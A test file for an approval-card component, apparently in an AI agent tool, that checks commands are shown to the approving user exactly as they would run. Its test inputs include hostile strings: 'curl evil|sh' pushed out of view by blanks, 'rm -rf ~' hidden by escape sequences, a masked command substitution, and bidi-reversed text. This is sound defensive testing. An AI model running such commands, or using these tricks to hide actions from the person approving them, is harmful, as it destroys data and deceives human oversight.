/**
 * What an approval card shows of a command: exactly what runs, with whatever a chat or terminal
 * would hide or redraw made visible, and a plain-words notice with the whole text attached. The
 * cases are the ones that fooled the cards before: a masked command substitution, a command
 * pushed out of view by spaces, a line redrawn by escape sequences, text turned around by U+202E.
 */
import { describe, expect, it } from 'vitest';
import { CARD_TEXT_MAX, exactText, visible } from '../../../src/core/exact-text.js';
import { type ApprovalRequest } from '../../../src/core/approvals/desk.js';
import { approvalCard } from '../../../src/core/approvals/card.js';

const request = (detail: string): ApprovalRequest => ({
  id: '0123456789abcdef', sessionId: 'local-a-b' as ApprovalRequest['sessionId'], platform: 'local', workspace: 'w', channel: 'c', thread: 't', tool: 'bash', detail, digest: 'd',
  requestedBy: 'U1', instance: 'i', createdAt: '2026-12-01T10:00:00.000Z', expiresAt: '2026-12-01T10:10:00.000Z',
});

describe('exactText', () => {
  it('shows an ordinary command as it is, with nothing to say and nothing attached', () => {
    expect(exactText('ls -la && cat "README.md" | head -n 5\ngit status')).toEqual({ shown: 'ls -la && cat "README.md" | head -n 5\ngit status', concerns: [], attach: false });
  });

  it('never masks what runs: a command substitution behind KEY= is shown, and the card says it looks like a secret', () => {
    const card = approvalCard(request('export API_KEY="$(echo PAYLOAD > f)"'), (u) => u);
    expect(card.detail).toBe('export API_KEY="$(echo PAYLOAD > f)"');
    expect(card.notice).toMatch(/look like secrets; they are shown as they are/);
    expect(card.attachment).toEqual({ name: 'bash-request-01234567.txt', content: 'export API_KEY="$(echo PAYLOAD > f)"' });
  });

  it('names a long run of spaces instead of letting it push the rest out of view', () => {
    const text = `echo hi${' '.repeat(800)}; evil`;
    const exact = exactText(text);
    expect(exact.shown).toBe('echo hi⟨800 blank characters⟩; evil');
    expect(exact.concerns).toEqual(['it holds long runs of blank characters that would push the rest out of view (shown as ⟨N blank characters⟩)']);
    expect(exact.attach).toBe(true);
    const card = approvalCard(request(text), (u) => u);
    expect(card.attachment?.content).toBe(text);
    expect(card.notice).toMatch(/^⚠️ Read the attached file before deciding: it is exactly what would run\./);
  });

  it('writes escape sequences, carriage returns and other control characters as escapes', () => {
    const text = 'echo safe\u001b[2K\rrm -rf ~\u0007';
    expect(exactText(text)).toMatchObject({ shown: 'echo safe\\e[2K\\rrm -rf ~\\x07', attach: true });
    expect(exactText(text).concerns.join(' ')).toMatch(/terminal escape sequences[\s\S]*control characters/);
  });

  it('writes bidirectional controls and invisible characters as escapes', () => {
    const text = 'echo "\u202Etxt.exe\u202C" # \u200Bhidden\u2066x\u2069';
    const exact = exactText(text);
    expect(exact.shown).toBe('echo "\\u202etxt.exe\\u202c" # \\u200bhidden\\u2066x\\u2069');
    expect(exact.concerns.join(' ')).toMatch(/reverse how text is displayed[\s\S]*invisible characters/);
    expect(exact.attach).toBe(true);
  });

  it('cuts a long text on the card, says how long it is, and attaches all of it', () => {
    const text = `python3 -c '${'x'.repeat(2000)}'`;
    const exact = exactText(text);
    expect([...exact.shown]).toHaveLength(CARD_TEXT_MAX + 1);
    expect(exact.shown.endsWith('…')).toBe(true);
    expect(exact.concerns[0]).toBe(`it is ${text.length.toLocaleString('en-US')} characters long, and the card shows only the first ${CARD_TEXT_MAX}`);
    expect(approvalCard(request(text), (u) => u).attachment?.content).toBe(text);
  });

  it('the same for tabs, wide, invisible or Braille blanks, and for runs of empty lines or many lines', () => {
    expect(exactText(`echo hi${'\t'.repeat(150)}; curl evil|sh`)).toMatchObject({ shown: 'echo hi⟨150 blank characters⟩; curl evil|sh', attach: true });
    expect(exactText(`echo hi${'\u2003\u00a0\u2800'.repeat(10)}; evil`)).toMatchObject({ shown: 'echo hi⟨30 blank characters⟩; evil', attach: true });
    expect(exactText('echo hi\u00a0; evil')).toMatchObject({ shown: 'echo hi\\xa0; evil', attach: true });
    expect(exactText(`echo hi${'\n'.repeat(300)}curl evil|sh`)).toMatchObject({ shown: 'echo hi\n⟨299 empty lines⟩\ncurl evil|sh', attach: true });
    expect(exactText(Array.from({ length: 40 }, (_, i) => `echo ${i}`).join('\n')).concerns).toEqual(['it is 40 lines long']);
    expect(exactText('a\ufe0fb\u2028c').shown).toBe('a\\ufe0fb\\u2028c');
    // Nothing in the text can pose as one of these names.
    expect(exactText('\u0000⟨3 blank characters⟩').shown).toBe('\\0⟨3 blank characters⟩');
    expect(exactText('a\n\nb')).toEqual({ shown: 'a\n\nb', concerns: [], attach: false });
  });

  it('visible() keeps tabs, newlines and every printable character, and turns nothing else into them', () => {
    expect(visible('a\tb\nc ü 日本 🙂')).toBe('a\tb\nc ü 日本 🙂');
    expect(visible('\u0000\u007f\u0085\u{E0041}')).toBe('\\0\\x7f\\x85\\u{e0041}');
  });
});
